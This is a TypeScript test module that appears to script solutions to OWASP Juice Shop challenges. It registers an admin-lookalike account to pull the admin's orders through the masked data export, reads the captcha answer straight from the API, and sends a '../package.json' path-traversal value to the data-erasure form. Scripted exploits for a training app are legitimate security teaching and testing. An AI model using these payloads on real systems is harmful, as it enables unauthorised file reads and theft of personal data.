import request from 'supertest'
import type { AttackTarget, Attacks } from '../../lib/attacks'
import { expectStatus, logIn, registerAndLogIn, type Session } from '../../testing/attack-steps'

/** Masked like admin's address (vowels become stars), so the export picks admin's orders too. */
export const ADMIN_LOOKALIKE = { email: 'edmin@juice-sh.op', password: 'edmin123' }

/** The lookalike account: registered on the first run, logged into on every later one. */
async function lookalikeSession(target: AttackTarget): Promise<Session> {
  try {
    return await registerAndLogIn(target, ADMIN_LOOKALIKE)
  } catch {
    return logIn(target, ADMIN_LOOKALIKE.email, ADMIN_LOOKALIKE.password)
  }
}

/** The data export form: fetches the image captcha (whose JSON tells the answer) and requests the export. */
export async function exportData(target: AttackTarget, session: Session) {
  const captcha = expectStatus(await request(target).get('/rest/image-captcha/').set('Authorization', session.bearer), 200)
  const exported = await request(target).post('/rest/user/data-export').set('Authorization', session.bearer).send({ answer: captcha.body.answer, format: '1' })
  return expectStatus(exported, 200)
}

export const privacyAttacks = {
  dataExportChallenge: async (target) => exportData(target, await lookalikeSession(target)),
  // the erasure form's body picks the template file: any file outside the deny-list is shown
  lfrChallenge: async (target) => {
    const { cookie } = await registerAndLogIn(target)
    return expectStatus(await request(target).post('/dataerasure').set('Cookie', cookie).type('form').send({ layout: '../package.json' }), 200)
  },
} satisfies Attacks
